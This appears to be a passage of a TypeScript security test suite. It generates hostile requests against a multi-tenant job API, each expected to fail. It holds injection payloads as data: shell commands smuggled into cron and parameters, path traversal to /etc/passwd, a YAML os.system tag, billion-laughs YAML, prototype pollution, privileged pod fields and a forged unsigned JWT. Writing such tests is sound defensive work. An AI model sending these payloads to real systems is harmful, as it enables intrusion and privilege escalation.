  // On alice's own run: refused by the body parser before the route.
  const id = enc(ctx.seededRunId);
  for (const action of ['cancel', 'retry'] as const) {
    requests.push({
      category: 'malformed-json',
      name: `${action} with a truncated body`,
      route: `POST /runs/:runId/${action}`,
      method: 'POST',
      path: `/runs/${id}/${action}`,
      body: raw('{"reason":'),
      expectedStatus: 400,
      expectedErrorName: 'InputError',
    });
  }
  return requests;
}

function unknownFields(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const base = validBody(tenants.a, 'data-etl');
  const params = base.parameters as Record<string, unknown>;
  const fields: Record<string, unknown> = {
    image: 'evil/miner:latest',
    command: ['sh', '-c', 'id'],
    args: ['--privileged'],
    namespace: 'kube-system',
    serviceAccountName: 'default',
    privileged: true,
    hostNetwork: true,
    nodeName: 'kwok-gpu-1',
    securityContext: { runAsUser: 0 },
    env: [{ name: 'X', value: 'y' }],
    volumes: [{ name: 'h', hostPath: { path: '/' } }],
    kind: 'Pod',
    metadata: { namespace: 'kube-system' },
    spec: { containers: [] },
    tenantID: tenants.b,
    TenantId: tenants.b,
    dry_run: true,
    resources: { limits: { cpu: '64' } },
  };
  const requests: HostileRequest[] = Object.entries(fields).map(
    ([field, value]) => ({
      category: 'unknown-fields',
      name: `field ${field}`,
      route: 'POST /runs',
      method: 'POST',
      path: '/runs',
      body: json({ ...base, [field]: value }),
      expectedStatus: 400,
    }),
  );
  for (const [parameter, value] of Object.entries({
    shell: '/bin/sh',
    image: 'evil/miner:latest',
    command: 'sh -c id',
    env: 'LD_PRELOAD=/tmp/x.so',
    tier: 'enterprise',
  })) {
    requests.push({
      category: 'unknown-fields',
      name: `parameter ${parameter}`,
      route: 'POST /runs',
      method: 'POST',
      path: '/runs',
      body: json({ ...base, parameters: { ...params, [parameter]: value } }),
      expectedStatus: 400,
    });
  }
  return requests;
}

function crossTenant(ctx: HostileContext): HostileRequest[] {
  const { tenants, components, runTag } = ctx.org;
  const submit = (
    name: string,
    body: unknown,
    expectedStatus: number,
    as: UserKey = 'alice',
  ): HostileRequest => ({
    category: 'cross-tenant',
    name,
    route: 'POST /runs',
    method: 'POST',
    path: '/runs',
    as,
    body: json(body),
    expectedStatus,
  });
  const forA = (overrides: Record<string, unknown>) =>
    validBody(tenants.a, 'data-etl', overrides);
  return [
    submit(
      'alice for tenant b',
      validBody(tenants.b, 'data-etl', { tier: 'small' }),
      403,
    ),
    submit(
      'alice for tenant c',
      validBody(tenants.c, 'billing-report', { tier: 'small' }),
      403,
    ),
    submit(
      'alice for tenant b, dry run',
      validBody(tenants.b, 'data-etl', { tier: 'small', dryRun: true }),
      403,
    ),
    submit(
      'alice for a tenant no group owns',
      validBody(`${tenants.a}-x`, 'data-etl'),
      403,
    ),
    submit('bob for tenant a', validBody(tenants.a, 'data-etl'), 403, 'bob'),
    submit(
      'carol for tenant a',
      validBody(tenants.a, 'data-etl'),
      403,
      'carol',
    ),
    submit(
      'mallory for tenant a',
      validBody(tenants.a, 'data-etl'),
      403,
      'mallory',
    ),
    submit(
      'mallory for tenant b',
      validBody(tenants.b, 'data-etl', { tier: 'small' }),
      403,
      'mallory',
    ),
    submit(
      "entityRef of tenant b's owned component",
      forA({ entityRef: components.b.owned }),
      400,
    ),
    submit(
      "entityRef of tenant b's annotated component",
      forA({ entityRef: components.b.annotated }),
      400,
    ),
    submit(
      "entityRef of tenant c's owned component",
      forA({ entityRef: components.c.owned }),
      400,
    ),
    submit(
      "entityRef of tenant c's annotated component",
      forA({ entityRef: components.c.annotated }),
      400,
    ),
    submit(
      "entityRef of tenant b's component, kind upper-cased",
      forA({
        entityRef: components.b.owned.replace('component:', 'Component:'),
      }),
      400,
    ),
    submit(
      "entityRef of tenant b's component, dry run",
      forA({ entityRef: components.b.owned, dryRun: true }),
      400,
    ),
    submit(
      "entityRef of tenant b's group",
      forA({ entityRef: ctx.org.groups.b }),
      400,
    ),
    submit('entityRef of a user', forA({ entityRef: ctx.org.users.bob }), 400),
    submit(
      'entityRef of a component that does not exist',
      forA({ entityRef: `component:default/it-${runTag}-a-nope` }),
      400,
    ),
    submit(
      "entityRef of tenant a's component in another namespace",
      forA({
        entityRef: components.a.owned.replace(':default/', ':elsewhere/'),
      }),
      400,
    ),
    ...[
      `it-${runTag}-a-service`,
      `component:it-${runTag}-a-service`,
      'component:default/',
      `component:default/it-${runTag}-a-service/extra`,
      ':default/x',
      `component:default/${'x'.repeat(100)}`,
      `component:default/it-${runTag}-a-service?x=1`,
    ].map(ref =>
      submit(
        `malformed entityRef ${JSON.stringify(ref)}`,
        forA({ entityRef: ref }),
        400,
      ),
    ),
  ];
}

/** Authorization headers that name no valid user. */
const BAD_AUTHORIZATION: Array<
  [name: string, header: string | null, status: number]
> = [
  ['no Authorization header', null, 401],
  ['Bearer x', 'Bearer x', 401],
  ['an empty Bearer token', 'Bearer ', 401],
  [
    'Basic credentials',
    `Basic ${Buffer.from('alice:secret').toString('base64')}`,
    401,
  ],
  [
    'a forged unsigned JWT claiming alice',
    `Bearer ${Buffer.from('{"alg":"none","typ":"JWT"}').toString(
      'base64url',
    )}.${Buffer.from(
      '{"sub":"user:default/alice","ent":["group:default/admins"]}',
    ).toString('base64url')}.`,
    401,
  ],
  ['an invalid user token', 'Bearer mock-invalid-user-token', 401],
  [
    'a limited (cookie) token of alice',
    `Bearer mock-limited-user-token:${JSON.stringify({
      sub: 'user:default/alice',
    })}`,
    401,
  ],
  ['a service token', 'Bearer mock-service-token', 403],
];

function auth(ctx: HostileContext): HostileRequest[] {
  // Every route gets no header at all, and three more bad headers drawn.
  const drawn = draw(
    fc.uniqueArray(fc.integer({ min: 1, max: BAD_AUTHORIZATION.length - 1 }), {
      minLength: 3,
      maxLength: 3,
    }),
    ROUTES.length,
    6,
  );
  const requests: HostileRequest[] = ROUTES.flatMap((route, i) =>
    [0, ...drawn[i]].map((k): HostileRequest => {
      const [name, header, status] = BAD_AUTHORIZATION[k];
      return {
        category: 'auth',
        name,
        ...routeRequest(route, ctx),
        authorization: header,
        expectedStatus: status,
      };
    }),
  );
  requests.push({
    category: 'auth',
    name: 'only a session cookie',
    ...routeRequest('GET /runs/:runId', ctx),
    authorization: null,
    headers: {
      Cookie: `backstage-auth=mock-limited-user-token:${JSON.stringify({
        sub: 'user:default/alice',
      })}`,
    },
    expectedStatus: 401,
  });
  // Valid tokens of users outside tenant a, on tenant a's run: the run
  // must look as if it did not exist.
  const forgedUser = `Bearer mock-user-token:${JSON.stringify({
    sub: 'user:default/eve',
  })}`;
  for (const route of [
    'GET /runs/:runId',
    'GET /runs/:runId/events',
    'GET /runs/:runId/logs',
    'POST /runs/:runId/cancel',
    'POST /runs/:runId/retry',
  ] as const) {
    for (const user of ['bob', 'carol', 'mallory'] as const) {
      requests.push({
        category: 'auth',
        name: `${user} (not of tenant a) on tenant a's run`,
        ...routeRequest(route, ctx),
        as: user,
        expectedStatus: 404,
      });
    }
    requests.push({
      category: 'auth',
      name: "a user the catalog does not know, on tenant a's run",
      ...routeRequest(route, ctx),
      authorization: forgedUser,
      expectedStatus: 404,
    });
  }
  // The same for tenant a's schedule and rule: they look as if they did
  // not exist (a delete or pause, if wrongly accepted, goes last).
  for (const route of [
    'GET /schedules/:scheduleId',
    'POST /schedules/:scheduleId/pause',
    'DELETE /schedules/:scheduleId',
    'GET /triggers/:triggerId',
    'DELETE /triggers/:triggerId',
  ] as const) {
    for (const user of ['bob', 'mallory'] as const) {
      requests.push({
        category: 'auth',
        name: `${user} (not of tenant a) on tenant a's ${route}`,
        ...routeRequest(route, ctx),
        as: user,
        expectedStatus: 404,
        last: route.startsWith('POST') || route.startsWith('DELETE'),
      });
    }
  }
  for (const route of [
    'GET /tenants/:tenantId/configuration',
    'POST /tenants/:tenantId/configuration',
  ] as const) {
    requests.push({
      category: 'auth',
      name: `bob (not of tenant a) on ${route} of tenant a`,
      ...routeRequest(route, ctx),
      as: 'bob',
      expectedStatus: 403,
    });
  }
  return requests;
}

function badQueries(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const logs = `/runs/${enc(ctx.seededRunId)}/logs`;
  const list = [
    'limit=-1',
    'limit=0',
    'limit=201',
    'limit=1000000000',
    'limit=99999999999999999999999',
    'limit=2.5',
    'limit=ten',
    'limit=0x10',
    'limit=1e1',
    'limit=%205',
    'limit=',
    'limit[]=5',
    'limit[]=5&limit[]=6',
    'limit[a]=1',
    'cursor=not-a-cursor',
    `cursor=${Buffer.from('[1,"x"').toString('base64url')}`,
    `cursor=${Buffer.from('{"createdAt":1,"id":"x"}').toString('base64url')}`,
    `cursor=${Buffer.from(`[1e999,"${'x'.repeat(200)}"]`).toString(
      'base64url',
    )}`,
    `cursor=${'c'.repeat(600)}`,
    'cursor[]=x',
    'from=yesterday',
    'from=0',
    'from=-1',
    'from=2026-02-30',
    'from=2026-02-30T00:00:00Z',
    'to=2026-13-45',
    'to=%2B275760-09-13T00:00:00Z',
    'from[]=2026-01-01T00:00:00Z',
    'from[a]=2026-01-01T00:00:00Z',
    'status=Bogus',
    'status[]=Running&status[]=Nope',
    'status[a]=Running',
    `tenantId=${enc('Bad_Tenant')}`,
    `tenantId=${Array.from({ length: 51 }, (_, i) => `t${i}`).join(',')}`,
    // The old name of the tenant filter is an unknown parameter now.
    `tenant=${tenants.a}`,
    'type=Data_ETL',
    'priority=urgent',
    'entityRef=my-service',
    'entityRef[]=component:default/x',
    'submittedBy=alice',
    'submittedBy[]=user:default/alice',
    `submittedBy=${'x'.repeat(600)}`,
    'sort=asc',
    `tenantId=${tenants.a}&tennant=x`,
  ];
  const stats = [
    'limit=10',
    'cursor=x',
    'from=yesterday',
    'to=2026-02-30',
    'from[]=2026-01-01T00:00:00Z',
    'window=7d',
    'status=Bogus',
  ];
  const logQueries = [
    'tailLines=-1',
    'tailLines=0',
    'tailLines=1000000000',
    'tailLines=abc',
    'tailLines=1e3',
    'tailLines[]=5',
    'follow=yes',
    'follow[]=true',
    'follow=true&follow=true',
    `pod=${enc('../../etc/passwd')}`,
    'pod=Bad_Pod',
    'pod[]=x',
    'container=job',
    'previous=true',
  ];
  const make = (
    route: RouteId,
    path: string,
    query: string,
  ): HostileRequest => ({
    category: 'bad-query',
    name: `?${decodeURIComponent(query)}`.slice(0, 120),
    route,
    method: 'GET',
    path: `${path}?${query}`,
    expectedStatus: 400,
  });
  return [
    ...list.map(q => make('GET /runs', '/runs', q)),
    ...stats.map(q => make('GET /stats', '/stats', q)),
    ...logQueries.map(q => make('GET /runs/:runId/logs', logs, q)),
    {
      ...make('GET /runs/:runId/logs', logs, 'pod=some-other-pod-of-nobody'),
      expectedStatus: 404,
    },
    // Routes that take no query parameters say so.
    make('GET /runs/:runId', `/runs/${enc(ctx.seededRunId)}`, 'verbose=true'),
    make(
      'GET /runs/:runId/events',
      `/runs/${enc(ctx.seededRunId)}/events`,
      'limit=5',
    ),
    make('GET /trigger-topics', '/trigger-topics', 'tenantId=x'),
    make('GET /triggers', '/triggers', `tenant=${tenants.a}`),
    make('GET /triggers', '/triggers', `tenantId=${enc('Bad_Tenant')}`),
    make('GET /schedules', '/schedules', 'tenantId[]=x'),
    make('GET /schedules', '/schedules', 'status=paused'),
    make(
      'GET /schedules/:scheduleId',
      `/schedules/${enc(ctx.seededScheduleId)}`,
      'x=1',
    ),
    make(
      'GET /triggers/:triggerId',
      `/triggers/${enc(ctx.seededTriggerId)}`,
      'x=1',
    ),
    make(
      'GET /tenants/:tenantId/configuration',
      `/tenants/${enc(tenants.a)}/configuration`,
      'format=json',
    ),
    // Access before validation: another tenant's run, bad query, 404.
    {
      ...make('GET /runs/:runId/logs', logs, 'tailLines=-1'),
      name: "bob's bad query on tenant a's run",
      as: 'bob',
      expectedStatus: 404,
    },
    {
      ...make('GET /runs/:runId', `/runs/${enc(ctx.seededRunId)}`, 'x=1'),
      name: "bob's unknown parameter on tenant a's run",
      as: 'bob',
      expectedStatus: 404,
    },
  ];
}

/**
 * Trigger rules, schedules and configuration imports: topics that carry
 * other tenants' data, other tenants, YAML that expands or asks for types,
 * and bodies of the wrong shape.
 */
function schedulesTriggersConfiguration(ctx: HostileContext): HostileRequest[] {
  const { tenants } = ctx.org;
  const rule = (overrides: Record<string, unknown>) => ({
    tenantId: tenants.a,
    topic: HOSTILE_TOPIC,
    jobType: ctx.jobType,
    ...overrides,
  });
  const schedule = (overrides: Record<string, unknown>) => ({
    tenantId: tenants.a,
    jobType: ctx.jobType,
    cron: '0 4 * * *',
    paused: true,
    ...overrides,
  });
  const post = (
    route: 'POST /triggers' | 'POST /schedules',
    name: string,
    body: unknown,
    expectedStatus: number,
    as: UserKey = 'alice',
  ): HostileRequest => ({
    category: 'schedules-triggers-configuration',
    name,
    route,
    method: 'POST',
    path: route === 'POST /triggers' ? '/triggers' : '/schedules',
    as,
    body: json(body),
    expectedStatus,
  });
  const document = (text: string) =>
    `apiVersion: tenant-jobs.io/v1\nkind: TenantJobsConfiguration\n${text}`;
  const entry = `{ jobType: ${ctx.jobType}, cron: '0 4 * * *', paused: true }`;
  const importing = (
    name: string,
    text: string,
    expectedStatus: number,
    as: UserKey = 'alice',
    tenantId = tenants.a,
  ): HostileRequest => ({
    category: 'schedules-triggers-configuration',
    name,
    route: 'POST /tenants/:tenantId/configuration',
    method: 'POST',
    path: `/tenants/${enc(tenantId)}/configuration`,
    as,
    body: raw(text, 'application/yaml'),
    expectedStatus,
  });
  const laughs = [
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
    ...Array.from(
      { length: 8 },
      (_, i) =>
        `${String.fromCharCode(98 + i)}: &${String.fromCharCode(
          98 + i,
        )} [${Array(9)
          .fill(`*${String.fromCharCode(97 + i)}`)
          .join(',')}]`,
    ),
  ].join('\n');
  return [
    ...[
      'signals',
      'scaffolder.task',
      'scaffolder',
      'notifications',
      'tenant-jobs:run-changed',
      'Signals',
    ].map(topic =>
      post(
        'POST /triggers',
        `a rule on ${topic}, which carries others' data`,
        rule({ topic, filter: { channel: `tenant-jobs:${tenants.b}` } }),
        400,
      ),
    ),
    post(
      'POST /triggers',
      'a rule on a topic the platform team did not allow',
      rule({ topic: 'github.push' }),
      400,
    ),
    post('POST /triggers', "bob's rule for tenant a", rule({}), 403, 'bob'),
    post(
      'POST /triggers',
      "mallory's rule for tenant a",
      rule({}),
      403,
      'mallory',
    ),
    post(
      'POST /triggers',
      'a filter path into the prototype',
      rule({ filter: { '__proto__.polluted': 'yes' } }),
      400,
    ),
    post(
      'POST /triggers',
      'a parameter mapped from a function',
      rule({ parameters: { x: { from: 'a', value: 1 } } }),
      400,
    ),
    post(
      'POST /triggers',
      'twenty-one filter conditions',
      rule({
        filter: Object.fromEntries(
          Array.from({ length: 21 }, (_, i) => [`k${i}`, 'v']),
        ),
      }),
      400,
    ),
    post(
      'POST /schedules',
      "bob's schedule for tenant a",
      schedule({}),
      403,
      'bob',
    ),
    post(
      'POST /schedules',
      'a cron of six fields',
      schedule({ cron: '0 0 4 * * *' }),
      400,
    ),
    post(
      'POST /schedules',
      'a cron with a shell payload',
      schedule({ cron: '0 4 * * *; id' }),
      400,
    ),
    post(
      'POST /schedules',
      'a time zone path',
      schedule({ timeZone: '../../etc/localtime' }),
      400,
    ),
    post(
      'POST /schedules',
      'a schedule for a tenant no group owns',
      schedule({ tenantId: `${tenants.a}-x` }),
      403,
    ),
    importing(
      'an alias',
      document(`schedules:\n  - &s ${entry}\n  - *s\n`),
      400,
    ),
    importing('a billion laughs', `${laughs}\n`, 400),
    importing('an explicit tag', document('schedules: !!seq []\n'), 400),
    importing(
      'a custom tag',
      document(`schedules:\n  - !!python/object/apply:os.system ["id"]\n`),
      400,
    ),
    importing(
      'a merge key',
      document(
        `defaults: &d { paused: true }\nschedules:\n  - { <<: *d, jobType: ${ctx.jobType}, cron: '0 4 * * *' }\n`,
      ),
      400,
    ),
    importing(
      'two documents',
      `${document('schedules: []\n')}---\n${document('schedules: []\n')}`,
      400,
    ),
    importing('not a mapping', '- a\n- b\n', 400),
    importing(
      'a document for tenant b sent to tenant a',
      document(`tenant: ${tenants.b}\nschedules: []\n`),
      400,
    ),
    importing(
      "bob's import into tenant a",
      document(`schedules:\n  - ${entry}\n`),
      403,
      'bob',
    ),
    importing(
      'an import into a tenant id that is not one',
      document('schedules: []\n'),
      400,
      'alice',
      'Bad_Tenant',
    ),
    importing(
      'a rule on signals in an import',
      document(`triggers:\n  - { topic: signals, jobType: ${ctx.jobType} }\n`),
      400,
    ),
  ];
}

/**
 * The hostile requests of the suite, in a fixed order: the `last` ones
 * (see there) at the end.
 */
export function hostileRequests(ctx: HostileContext): HostileRequest[] {
  const all = [
    ...hostileIds(ctx),
    ...unicodeAndNullBytes(ctx),
    ...oversizeBodies(ctx),
    ...prototypePollution(ctx),
    ...yamlAndShell(ctx),
    ...wrongTypes(ctx),
    ...wrongContentTypes(ctx),
    ...malformedJson(ctx),
    ...unknownFields(ctx),
    ...crossTenant(ctx),
    ...auth(ctx),
    ...badQueries(ctx),
    ...schedulesTriggersConfiguration(ctx),
  ];
  return [...all.filter(r => !r.last), ...all.filter(r => r.last)];
}
